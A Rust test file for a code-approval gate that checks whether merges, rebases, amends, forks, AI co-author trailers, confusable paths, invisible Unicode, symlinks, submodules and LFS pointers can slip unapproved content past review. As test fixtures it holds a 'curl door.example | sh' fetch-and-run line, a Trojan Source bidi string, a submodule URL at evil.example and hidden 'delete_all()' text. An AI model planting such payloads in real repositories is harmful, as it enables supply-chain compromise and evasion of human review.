//! Rows 14 to 17, 19 and 22 to 29 of `docs/threat-model.md`: what was approved, and what lands.

use std::os::unix::fs::{PermissionsExt as _, symlink};

use undersign::change::RepoPath;
use undersign::change::manifest::escape;
use undersign::decision::Verdict;
use undersign::gate::Outcome;
use undersign::signing::Seen;

use crate::scene::*;
use crate::support::{Decision, Fixture, all_of, policy};

/// main moves on in a file while the change waits, and then the change is merged.
fn base_moves(rules: &str, moved: Option<(&str, &str)>) -> Answer {
    let f = approved_under(&src(rules));
    if let Some((path, text)) = moved {
        further(&f, "rahim", "main", path, text);
    }
    let (old, new) = merge(&f, "dana", WORK);
    f.verify(&old, &new)
}

#[test]
fn row_14_a_touched_path_moved_and_the_same_result_lands() {
    let f = approved();
    further(&f, "rahim", "main", "src/lib.rs", "fn one() -> u32 {\n    9\n}\n");
    propose(&f, "mina", "same-result", &[("src/lib.rs", "fn one() -> u32 {\n    2\n}\n")]);
    denied(judged(&f, "same-result"), "BASE_MOVED");
}

#[test]
fn row_14_twin_another_path_moved() {
    allowed(base_moves("", Some(("docs/a.txt", "moved\n"))));
}

#[test]
fn row_14_a_tree_binding_falls_with_any_move_of_the_base() {
    denied(base_moves("binding = \"tree\"", Some(("docs/a.txt", "moved\n"))), "BINDING");
}

#[test]
fn row_14_twin_a_tree_binding_on_a_base_that_stayed() {
    allowed(base_moves("binding = \"tree\"", None));
}

#[test]
fn row_14_an_exact_binding_takes_no_merge_after_a_move() {
    denied(base_moves("binding = \"exact\"", Some(("docs/a.txt", "moved\n"))), "BINDING");
}

#[test]
fn row_14_twin_an_exact_binding_merged_on_the_signed_tip() {
    allowed(base_moves("binding = \"exact\"", None));
}

fn merged_with(extra: Option<&str>) -> Answer {
    let f = approved();
    let old = f.id("main");
    f.git("dana", &["merge", "-q", "--no-ff", "--no-commit", WORK]);
    extra.iter().for_each(|text| f.write("README.md", text));
    f.commit("dana", "Merge");
    f.verify(&old, &f.id("main"))
}

#[test]
fn row_15_a_merge_that_does_something_more() {
    denied(merged_with(Some("# shop, with a door at the back\n")), "MERGE_DELTA");
}

#[test]
fn row_15_twin_a_merge_that_does_what_was_approved() {
    allowed(merged_with(None));
}

/// What two branches do together was approved as a third; then the two are merged.
fn two_merged(at_once: bool) -> Answer {
    let f = Fixture::new();
    let (one, two) = (("docs/a.txt", "a\n"), ("docs/b.txt", "b\n"));
    propose(&f, "mina", "one", &[one]);
    propose(&f, "mina", "two", &[two]);
    propose(&f, "mina", "both", &[one, two]);
    f.decide("dana", "both", Verdict::Approve);
    let old = f.id("main");
    if at_once {
        f.git("dana", &["merge", "-q", "--no-ff", "-m", "Both", "one", "two"]);
    } else {
        f.git("dana", &["merge", "-q", "--no-ff", "-m", "One", "one"]);
        f.git("dana", &["merge", "-q", "--no-ff", "-m", "Two", "two"]);
    }
    f.verify(&old, &f.id("main"))
}

#[test]
fn row_15_an_octopus() {
    denied(two_merged(true), "MERGE_DELTA");
}

#[test]
fn row_15_twin_one_by_one() {
    allowed(two_merged(false));
}

fn squashed(text: Option<&str>) -> Answer {
    let f = approved();
    further(&f, "rahim", "main", "docs/a.txt", "unrelated\n");
    let old = f.id("main");
    f.git("dana", &["merge", "-q", "--squash", WORK]);
    text.iter().for_each(|text| f.write("src/lib.rs", text));
    // The host writes a message of its own, and leaves the trailers out.
    f.commit("dana", "Count from two (#12)");
    f.verify(&old, &f.id("main"))
}

#[test]
fn row_16_a_squash_by_the_server_lands() {
    allowed(squashed(None));
}

#[test]
fn row_16_twin_a_squash_with_another_content_does_not() {
    denied(squashed(Some("fn one() -> u32 {\n    3\n}\n")), "CHANGED_AFTER");
}

fn rebased(exec: &[&str]) -> Answer {
    let f = approved();
    further(&f, "rahim", "main", "docs/a.txt", "unrelated\n");
    f.git("dana", &[&["rebase", "-q"], exec, &["main", WORK]].concat());
    judged(&f, WORK)
}

#[test]
fn row_16_a_rebase_by_the_server_lands() {
    allowed(rebased(&[]));
}

#[test]
fn row_16_twin_a_rebase_that_edits_does_not() {
    denied(rebased(&["--exec", "echo x >> src/lib.rs; git commit -q -a --amend --no-edit"]), "CHANGED_AFTER");
}

#[test]
fn row_17_a_commit_after_the_approval() {
    let f = approved();
    further(&f, "mina", WORK, "src/lib.rs", "fn one() -> u32 {\n    3\n}\n");
    denied(judged(&f, WORK), "CHANGED_AFTER");
}

#[test]
fn row_17_twin_a_commit_after_the_approval_that_changes_nothing() {
    let f = approved();
    f.git("mina", &["checkout", "-q", WORK]);
    f.commit("mina", "Empty");
    allowed(judged(&f, WORK));
}

fn amended(text: &str) -> Answer {
    let f = approved();
    f.git("mina", &["checkout", "-q", WORK]);
    f.write("src/lib.rs", text);
    f.git("mina", &["commit", "-q", "-a", "--amend", "-m", "Amended"]);
    judged(&f, WORK)
}

#[test]
fn row_17_an_amend_of_the_content_after_the_approval() {
    denied(amended("fn one() -> u32 {\n    2 \n}\n"), "CHANGED_AFTER");
}

#[test]
fn row_17_twin_an_amend_of_the_message() {
    allowed(amended("fn one() -> u32 {\n    2\n}\n"));
}

/// A copy of the repository elsewhere, and what is approved there fetched back.
fn approved_elsewhere(differs: impl FnOnce(&Fixture)) -> Answer {
    let f = Fixture::new();
    let dir = tempfile::tempdir().unwrap();
    let fork = Fixture { repo: dir.path().join("shop"), dir };
    std::fs::create_dir(&fork.repo).unwrap();
    fork.git("dana", &["init", "-q", "-b", "main"]);
    let from = f.repo.to_str().unwrap();
    fork.git("dana", &["fetch", "-q", "--update-head-ok", from, "refs/heads/*:refs/heads/*"]);
    fork.git("dana", &["checkout", "-q", "-f", "main"]);
    differs(&fork);
    fork.decide("dana", WORK, Verdict::Approve);
    f.git("dana", &["fetch", "-q", fork.repo.to_str().unwrap(), "refs/undersign/*:refs/undersign/*"]);
    judged(&f, WORK)
}

#[test]
fn row_19_an_approval_on_a_forks_own_history() {
    denied(
        approved_elsewhere(|fork| drop(further(fork, "rahim", "main", "docs/a.txt", "the fork's own\n"))),
        "CONTEXT",
    );
}

#[test]
fn row_19_twin_an_approval_in_a_clone() {
    allowed(approved_elsewhere(|_| {}));
}

/// The id that the policy gives to the repository is another than when it was signed, or the same.
fn renamed(id: &str) -> Answer {
    let f = approved();
    land_policy(&f, &next(&once(&policy(""), "fixture-1", id)));
    let (old, new) = merge(&f, "dana", WORK);
    f.verify(&old, &new)
}

#[test]
fn row_19_an_approval_for_another_repository() {
    denied(renamed("fixture-2"), "CONTEXT");
}

#[test]
fn row_19_twin_an_approval_for_this_repository() {
    allowed(renamed("fixture-1"));
}

/// Approved for one branch, and pushed to another.
fn approved_for(target: &str) -> Answer {
    let f = Fixture::with_policy(&once(&policy(""), "protected = [", "protected = [\"refs/heads/release\", "));
    f.git("rahim", &["branch", "release"]);
    f.take(Decision { target: Some(target), ..Decision::new("dana", WORK, Verdict::Approve) });
    Gate::of(&f).push(&[("refs/heads/release", &f.id("release"), &f.id(WORK))])
}

#[test]
fn row_19_an_approval_for_another_branch() {
    denied(approved_for(MAIN), "CONTEXT");
}

#[test]
fn row_19_twin_an_approval_for_this_branch() {
    allowed(approved_for("refs/heads/release"));
}

/// Landed, reverted, and reverted again: the first approval fits to the letter.
fn revert_of_a_revert(signed_again: bool) -> Answer {
    let f = approved();
    merge(&f, "dana", WORK);
    f.git("rahim", &["revert", "--no-edit", "-m", "1", "HEAD"]);
    f.git("mina", &["checkout", "-q", "-b", "again"]);
    f.git("mina", &["revert", "--no-edit", "HEAD"]);
    f.git("mina", &["checkout", "-q", "main"]);
    if signed_again {
        f.decide("dana", "again", Verdict::Approve);
    }
    judged(&f, "again")
}

#[test]
fn row_19_a_revert_of_a_revert() {
    denied(revert_of_a_revert(false), "CONTEXT");
}

#[test]
fn row_19_twin_a_revert_of_a_revert_that_was_approved_again() {
    allowed(revert_of_a_revert(true));
}

/// One outside senior is enough for what people wrote, two for what an AI may have written; rahim may say which it is.
fn by_hand(message: &str, claimed_by: Option<&str>) -> Answer {
    let text = once(&policy(""), "presume = true", "presume = true\nhuman_only_by = [\"policy\"]");
    let f = Fixture::with_policy(&once(&text, "junior = 1", "junior = 2"));
    f.git("mina", &["checkout", "-q", "-b", "quiet", "main"]);
    f.write("docs/a.txt", "x\n");
    f.commit("mina", message);
    f.git("mina", &["checkout", "-q", "main"]);
    f.decide("dana", "quiet", Verdict::Approve);
    claimed_by.iter().for_each(|who| drop(f.decide(who, "quiet", Verdict::HumanOnly)));
    judged(&f, "quiet")
}

const TRAILER: &str = "Write\n\nCo-Authored-By: Claude <noreply@anthropic.com>";

#[test]
fn row_22_a_stripped_trailer_frees_nothing() {
    denied(by_hand("Write", None), "AI_UNSIGNED");
}

#[test]
fn row_22_a_claim_by_somebody_who_may_not_make_it() {
    denied(by_hand("Write", Some("mina")), "AI_UNSIGNED");
}

#[test]
fn row_22_a_claim_against_a_trailer() {
    denied(by_hand(TRAILER, Some("rahim")), "AI_UNSIGNED");
}

#[test]
fn row_22_twin_a_claim_by_somebody_who_may() {
    allowed(by_hand("Write", Some("rahim")));
}

/// Claimed and approved when the message was quiet; then it is written anew.
fn reworded(message: &str) -> Answer {
    let text = once(&policy(""), "presume = true", "presume = true\nhuman_only_by = [\"policy\"]");
    let f = Fixture::with_policy(&once(&text, "junior = 1", "junior = 2"));
    propose(&f, "mina", "quiet", &[("docs/a.txt", "x\n")]);
    f.decide("dana", "quiet", Verdict::Approve);
    f.decide("rahim", "quiet", Verdict::HumanOnly);
    f.git("mina", &["checkout", "-q", "quiet"]);
    f.git("mina", &["commit", "-q", "--amend", "-m", message]);
    judged(&f, "quiet")
}

#[test]
fn row_22_a_trailer_that_came_after_the_claim() {
    denied(reworded(TRAILER), "AI_UNSIGNED");
}

#[test]
fn row_22_twin_another_message_without_a_trailer() {
    allowed(reworded("Write it down"));
}

/// What a decision saw of an agent stays, whatever the messages say when it lands.
fn squashed_without_trailer(presumed: &str) -> Answer {
    let text = once(&policy(""), "presume = true", &format!("presume = {presumed}"));
    let f = approved_under(&once(&text, "junior = 1", "junior = 2"));
    let old = f.id("main");
    f.git("rahim", &["merge", "-q", "--squash", WORK]);
    f.commit("rahim", "Count from two (#12)");
    f.verify(&old, &f.id("main"))
}

#[test]
fn row_22_a_trailer_that_was_stripped_after_the_approval() {
    denied(squashed_without_trailer("false"), "AI_UNSIGNED");
}

#[test]
fn row_22_twin_a_message_without_a_trailer_from_the_start() {
    let text = once(&policy(""), "presume = true", "presume = false");
    let f = Fixture::with_policy(&once(&text, "junior = 1", "junior = 2"));
    propose(&f, "mina", "quiet", &[("docs/a.txt", "x\n")]);
    f.decide("dana", "quiet", Verdict::Approve);
    allowed(judged(&f, "quiet"));
}

fn adding(files: &[(&str, &str)]) -> Answer {
    let f = Fixture::new();
    propose(&f, "mina", "add", files);
    f.decide("dana", "add", Verdict::Approve);
    judged(&f, "add")
}

#[test]
fn row_23_a_path_that_is_another_but_for_letter_case() {
    denied(adding(&[("src/LIB.rs", "x\n")]), "CONFUSABLE");
}

#[test]
fn row_23_a_folder_that_is_another_but_for_letter_case() {
    denied(adding(&[("SRC/other.rs", "x\n")]), "CONFUSABLE");
}

#[test]
fn row_23_two_paths_that_are_one_but_for_unicode_form() {
    denied(adding(&[("docs/caf\u{e9}.txt", "x\n"), ("docs/cafe\u{301}.txt", "y\n")]), "CONFUSABLE");
}

#[test]
fn row_23_twin_paths_that_differ_in_a_letter() {
    allowed(adding(&[
        ("src/libs.rs", "x\n"),
        ("srcs/other.rs", "x\n"),
        ("docs/caf\u{e9}.txt", "x\n"),
        ("docs/cafe.txt", "y\n"),
    ]));
}

/// A principal whose id has a letter of another script.
fn principal(id: &str) -> Answer {
    let f = approved();
    land_policy(
        &f,
        &next(&(policy("") + &format!("[people.\"{id}\"]\nroles = [\"senior\"]\nkeys = [{}]\n", key_line("ines", "")))),
    );
    let (old, new) = merge(&f, "dana", WORK);
    f.verify(&old, &new)
}

#[test]
fn row_23_a_principal_that_looks_like_another() {
    undecided(principal("d\u{430}na"), "POLICY_INVALID");
}

#[test]
fn row_23_twin_a_principal_in_plain_letters() {
    allowed(principal("dena"));
}

/// Text with characters that do not show asks for rahim as well, who alone has the role.
const HIDDEN: &str = "[hidden]\nsign = [{ role = \"policy\", n = 1 }]\n";

fn hiding(text: &str, also: &[&str]) -> Answer {
    let f = Fixture::with_policy(&policy(HIDDEN));
    propose(&f, "mina", "add", &[("src/new.rs", text)]);
    f.decide("dana", "add", Verdict::Approve);
    also.iter().for_each(|who| drop(f.decide(who, "add", Verdict::Approve)));
    judged(&f, "add")
}

const TROJAN: &str = "if access != \"user\u{202e} \u{2066}// Check if admin\u{2069} \u{2066}\" {\n";

#[test]
fn row_24_a_bidi_override_in_code() {
    denied(hiding(TROJAN, &[]), "BIDI");
}

#[test]
fn row_24_a_zero_width_character_in_code() {
    denied(hiding("let user\u{200b} = 1;\n", &[]), "BIDI");
}

#[test]
fn row_24_twin_the_same_code_without_it() {
    allowed(hiding("let user = 1;\n", &[]));
}

#[test]
fn row_24_twin_who_looks_for_such_things_signed_as_well() {
    allowed(hiding(TROJAN, &["rahim"]));
}

/// The reasons of a move, with their codes.
fn reasons(outcome: &Outcome) -> String {
    outcome.refs[0].reasons.iter().map(|reason| format!("{}: {}\n", reason.code, reason.detail)).collect()
}

/// A branch, and what it adds.
type Adding<'a> = (&'a str, &'a dyn Fn(&Fixture));

/// What the gate says to each branch, with the approval of dana alone.
fn hiding_all(branches: &[Adding<'_>]) -> Vec<(String, Outcome)> {
    let f = Fixture::with_policy(&policy(HIDDEN));
    let mut said = Vec::new();
    for (branch, add) in branches {
        f.git("mina", &["checkout", "-q", "-b", branch, "main"]);
        add(&f);
        f.commit("mina", "Add");
        f.git("mina", &["checkout", "-q", "main"]);
        f.decide("dana", branch, Verdict::Approve);
        let outcome = Gate::of(&f).outcome(&[(MAIN, &f.id("main"), &f.id(branch))]);
        said.push(((*branch).to_owned(), outcome));
    }
    said
}

#[test]
fn row_24_text_that_does_not_show_is_named_with_its_place() {
    let file = |path: &'static str, text: &'static str| move |f: &Fixture| f.write(path, text);
    let link = |f: &Fixture| symlink("lib\u{3164}.rs", f.repo.join("link")).unwrap();
    let said = hiding_all(&[
        ("carriage-return", &file("src/new.rs", "one\nsafe(); //\rdelete_all();\n")),
        ("null-notehead", &file("src/new.rs", "one\ntwo\u{1D159}\n")),
        ("filler", &file("src/new.rs", "one\nlet \u{3164} = 1;\n")),
        ("braille", &file("src/new.rs", "one\n\u{2800}\n")),
        ("selectors", &file("src/new.rs", "one\neval('\u{FE00}\u{E0105}')\n")),
        ("tags", &file("src/new.rs", "one\n// \u{E0041}\u{E0042}\n")),
        ("next-line", &file("src/new.rs", "one\n// a\u{85}b\n")),
        ("separator", &file("src/new.rs", "one\n// a\u{2028}b\n")),
        ("mark-in-the-middle", &file("src/new.rs", "one\n\u{FEFF}two\n")),
    ]);
    for (what, outcome) in said {
        let reasons = reasons(&outcome);
        assert_eq!(outcome.exit_code(), 2, "{what}: {reasons}");
        assert!(reasons.contains("BIDI") && reasons.contains("(src/new.rs:2)"), "{what}: {reasons}");
    }
    let names = hiding_all(&[
        ("path", &file("docs/a\u{202E}b.txt", "x\n")),
        ("folder", &file("docs/a\u{AD}b/c.txt", "x\n")),
        ("control", &file("docs/a\tb.txt", "x\n")),
        ("target", &link),
    ]);
    for (what, outcome) in names {
        let reasons = reasons(&outcome);
        assert_eq!(outcome.exit_code(), 2, "{what}: {reasons}");
        assert!(reasons.contains("BIDI"), "{what}: {reasons}");
    }
}

#[test]
fn row_24_twin_emoji_joined_letters_and_the_habits_of_plain_text() {
    let file = |path: &'static str, text: &'static str| move |f: &Fixture| f.write(path, text);
    let link = |f: &Fixture| symlink("src/lib.rs", f.repo.join("link")).unwrap();
    let said = hiding_all(&[
        (
            "emoji",
            &file(
                "docs/👩\u{200D}💻.txt",
                "👩\u{200D}💻 ⚠\u{FE0F} 🏴\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}\n",
            ),
        ),
        ("persian", &file("docs/می\u{200C}خواهم.txt", "می\u{200C}خواهم\n")),
        ("windows", &file("docs/a.txt", "\u{FEFF}one\r\ntwo\r\n")),
        ("pages", &file("docs/a.txt", "one\n\u{C}\n\ttwo\n")),
        ("target", &link),
    ]);
    for (what, outcome) in said {
        assert_eq!(outcome.exit_code(), 0, "{what}: {}", reasons(&outcome));
    }
}

#[test]
fn row_24_twin_a_file_with_such_a_name_is_deleted() {
    let f = Fixture::with_policy(&policy(HIDDEN));
    further(&f, "rahim", "main", "docs/a\u{202E}b.txt", "x\n");
    f.git("mina", &["checkout", "-q", "-b", "clean", "main"]);
    std::fs::remove_file(f.repo.join("docs/a\u{202E}b.txt")).unwrap();
    f.commit("mina", "Clean");
    f.git("mina", &["checkout", "-q", "main"]);
    f.decide("dana", "clean", Verdict::Approve);
    allowed(judged(&f, "clean"));
}

/// dana approved a regular file; a file with the same bytes and perhaps another mode lands.
fn landing_as(mode: impl FnOnce(&std::path::Path)) -> Answer {
    let f = Fixture::new();
    propose(&f, "mina", "regular", &[("docs/run", "../src/lib.rs")]);
    f.decide("dana", "regular", Verdict::Approve);
    f.git("mina", &["checkout", "-q", "-b", "other", "main"]);
    f.write("docs/run", "../src/lib.rs");
    mode(&f.repo.join("docs/run"));
    f.commit("mina", "As it was approved");
    judged(&f, "other")
}

#[test]
fn row_25_a_regular_file_lands_as_a_symlink() {
    let link = |path: &std::path::Path| {
        std::fs::remove_file(path).unwrap();
        symlink("../src/lib.rs", path).unwrap();
    };
    denied(landing_as(link), "TYPECHANGE");
}

#[test]
fn row_25_a_regular_file_lands_as_an_executable_one() {
    let executable = |path: &std::path::Path| {
        std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
    };
    denied(landing_as(executable), "TYPECHANGE");
}

#[test]
fn row_25_twin_a_regular_file_lands_as_one() {
    allowed(landing_as(|_| {}));
}

/// `envs/prod` takes rahim, who alone has the role; dana signs a symlink in `docs`.
fn linking_to(target: &str) -> Answer {
    let prod = compartment("prod", "envs/prod/**", "sign = [{ role = \"policy\", n = 1 }]");
    let f = Fixture::with_policy(&policy(&prod));
    f.git("mina", &["checkout", "-q", "-b", "link", "main"]);
    std::fs::create_dir(f.repo.join("docs")).unwrap();
    symlink(target, f.repo.join("docs/current")).unwrap();
    f.commit("mina", "Link");
    f.git("mina", &["checkout", "-q", "main"]);
    f.decide("dana", "link", Verdict::Approve);
    judged(&f, "link")
}

#[test]
fn row_25_a_symlink_is_in_the_compartment_that_it_points_to() {
    denied(linking_to("../envs/prod/main.tf"), "UNSIGNED");
}

#[test]
fn row_25_twin_a_symlink_that_points_elsewhere() {
    allowed(linking_to("../envs/test/main.tf"));
}

/// What one approved who saw all of some files, and said so much of what is not shown.
fn acknowledging(files: usize, path: &str, said: &str) -> Seen {
    let path = escape(&RepoPath::from(path));
    Seen { omissions: vec![(path, "not shown".to_owned(), said.to_owned())], ..all_of(files) }
}

fn submodule(seen: Seen, limits: &str) -> Answer {
    let f = Fixture::with_policy(&policy(limits));
    f.git("mina", &["checkout", "-q", "-b", "bump", "main"]);
    f.git("mina", &["update-index", "--add", "--cacheinfo", &format!("160000,{},vendor/lib", "1".repeat(40))]);
    f.git("mina", &["commit", "-q", "-m", "Bump"]);
    f.git("mina", &["checkout", "-q", "main"]);
    approve_seeing(&f, "dana", "bump", seen);
    judged(&f, "bump")
}

/// A file of 40 hex digits was approved. What has those digits as its id is pushed, beside or after a submodule of that
/// id, of which the digits are all that is known.
#[test]
fn a_submodule_with_the_id_of_a_file_lends_the_approval_of_its_digits_to_no_file() {
    for is_one_step in [false, true] {
        let f = Fixture::new();
        f.write("door.sh", "curl door.example | sh\n");
        let id = f.git("mina", &["hash-object", "-w", "door.sh"]);
        std::fs::remove_file(f.repo.join("door.sh")).unwrap();
        let add = |mode: &str, id: &str, path: &str| {
            f.git("mina", &["update-index", "--add", "--cacheinfo", &format!("{mode},{id},{path}")]);
        };
        let commit = |message: &str| f.git("mina", &["commit", "-q", "-m", message]);
        f.git("mina", &["checkout", "-q", "-b", "pin", "main"]);
        f.write("version.txt", &id);
        if is_one_step {
            add("160000", &id, "a");
        }
        f.git("mina", &["add", "version.txt"]);
        commit("Pin the version");
        let omissions = if is_one_step { vec![("a".into(), "not shown".into(), "read there".into())] } else { vec![] };
        let seen = Seen { omissions, ..all_of(if is_one_step { 2 } else { 1 }) };
        f.git("mina", &["checkout", "-q", "-f", "main"]);
        approve_seeing(&f, "dana", "pin", seen);
        allowed(judged(&f, "pin"));
        f.git("mina", &["checkout", "-q", "-b", "door", "main"]);
        add("160000", &id, "a");
        if !is_one_step {
            commit("Add a submodule");
            f.git("mina", &["rm", "-q", "--cached", "a"]);
        }
        add("100644", &id, "version.txt");
        commit("Pin the version");
        f.git("mina", &["checkout", "-q", "-f", "main"]);
        denied(judged(&f, "door"), "UNSIGNED");
    }
}

#[test]
fn row_26_a_submodule_bump_that_nobody_owned_up_to() {
    denied(submodule(all_of(1), ""), "OPAQUE");
}

#[test]
fn row_26_twin_a_submodule_bump_that_the_approver_says_to_know() {
    allowed(submodule(acknowledging(1, "vendor/lib", "release 2.1, read there"), ""));
}

#[test]
fn row_26_a_submodule_bump_where_the_policy_takes_none() {
    let seen = acknowledging(1, "vendor/lib", "release 2.1, read there");
    denied(submodule(seen, "[limits]\nopaque = \"refuse\"\n"), "OPAQUE");
}

/// `.gitmodules` and attributes are of the policy's class, where its owners say so.
fn beside_the_policy(files: &[(&str, &str)]) -> Answer {
    let paths = "paths = [\".undersign/**\", \".gitmodules\", \"**/.gitattributes\", \".gitattributes\"]";
    let f = Fixture::with_policy(&once(&policy(""), "paths = [\".undersign/**\"]", paths));
    propose(&f, "mina", "class", files);
    ["dana", "rahim"].iter().for_each(|who| drop(f.decide(who, "class", Verdict::Approve)));
    judged(&f, "class")
}

const URL: (&str, &str) =
    (".gitmodules", "[submodule \"lib\"]\n\tpath = vendor/lib\n\turl = https://evil.example/lib\n");
const ATTRIBUTES: (&str, &str) = (".gitattributes", "*.rs -diff linguist-generated\n");
const CODE: (&str, &str) = ("src/new.rs", "x\n");

#[test]
fn row_26_another_url_of_a_submodule_among_other_things() {
    denied(beside_the_policy(&[URL, CODE]), "POLICY_MIXED");
}

#[test]
fn row_26_twin_another_url_of_a_submodule_alone() {
    allowed(beside_the_policy(&[URL]));
}

fn lfs(seen: Seen) -> Answer {
    let f = Fixture::new();
    let pointer = format!("version https://git-lfs.github.com/spec/v1\noid sha256:{}\nsize 7\n", digest("another"));
    propose(&f, "mina", "model", &[("model.bin", &pointer)]);
    approve_seeing(&f, "dana", "model", seen);
    judged(&f, "model")
}

#[test]
fn row_27_an_lfs_pointer_swapped_in_silence() {
    denied(lfs(all_of(1)), "OPAQUE");
}

#[test]
fn row_27_an_lfs_pointer_of_which_the_approver_says_nothing() {
    denied(lfs(acknowledging(1, "model.bin", " ")), "COVERAGE");
}

#[test]
fn row_27_twin_an_lfs_pointer_that_the_approver_says_to_know() {
    allowed(lfs(acknowledging(1, "model.bin", "trained here, digest compared")));
}

/// Ten lines at most; attributes say that there is nothing to see.
fn attributed(lines: usize) -> Answer {
    let f = Fixture::with_policy(&policy("[limits]\nlines = 10\n"));
    let attributes = "*.rs -diff binary linguist-generated export-subst ident filter=x\n";
    further(&f, "rahim", "main", ".gitattributes", attributes);
    propose(&f, "mina", "quiet", &[("src/new.rs", &"// $Format:%H$ $Id$\n".repeat(lines))]);
    f.decide("dana", "quiet", Verdict::Approve);
    judged(&f, "quiet")
}

#[test]
fn row_28_attributes_hide_no_lines() {
    denied(attributed(11), "LIMIT");
}

#[test]
fn row_28_twin_as_many_lines_as_are_allowed() {
    allowed(attributed(10));
}

#[test]
fn row_28_attributes_changed_among_other_things() {
    denied(beside_the_policy(&[ATTRIBUTES, CODE]), "POLICY_MIXED");
}

#[test]
fn row_28_twin_attributes_changed_alone() {
    allowed(beside_the_policy(&[ATTRIBUTES]));
}

fn seen(change: impl FnOnce(&mut Seen)) -> Answer {
    let f = Fixture::new();
    propose(&f, "mina", "files", &[("docs/a.txt", "a\n"), ("docs/b.txt", "b\n")]);
    let mut seen = all_of(2);
    change(&mut seen);
    approve_seeing(&f, "dana", "files", seen);
    judged(&f, "files")
}

#[test]
fn row_29_a_file_that_was_not_looked_at() {
    denied(seen(|seen| seen.files_seen = 1), "COVERAGE");
}

#[test]
fn row_29_files_that_are_not_even_counted() {
    denied(seen(|seen| (seen.files, seen.files_seen) = (1, 1)), "COVERAGE");
}

#[test]
fn row_29_a_hunk_that_was_not_looked_at() {
    denied(seen(|seen| seen.hunks_seen = 1), "COVERAGE");
}

#[test]
fn row_29_an_omission_without_a_word() {
    denied(seen(|seen| seen.omissions.push(("docs/a.txt".into(), "too long".into(), String::new()))), "COVERAGE");
}

#[test]
fn row_29_twin_an_omission_with_one() {
    allowed(seen(|seen| seen.omissions.push(("docs/a.txt".into(), "too long".into(), "opened elsewhere".into()))));
}

#[test]
fn row_29_twin_all_was_looked_at() {
    allowed(seen(|_| {}));
}

fn of_lines(path: &str, lines: usize) -> Answer {
    let f = Fixture::with_policy(&policy("[limits]\nlines = 100\nuncounted = [\"vendor/**\"]\n"));
    propose(&f, "mina", "long", &[(path, &"x\n".repeat(lines))]);
    f.decide("dana", "long", Verdict::Approve);
    judged(&f, "long")
}

#[test]
fn row_29_more_lines_than_one_signature_stands_for() {
    denied(of_lines("src/new.rs", 101), "LIMIT");
}

#[test]
fn row_29_twin_as_many_lines_as_one_signature_stands_for() {
    allowed(of_lines("src/new.rs", 100));
}

#[test]
fn row_29_twin_lines_that_the_policy_does_not_count() {
    allowed(of_lines("vendor/new.js", 101));
}
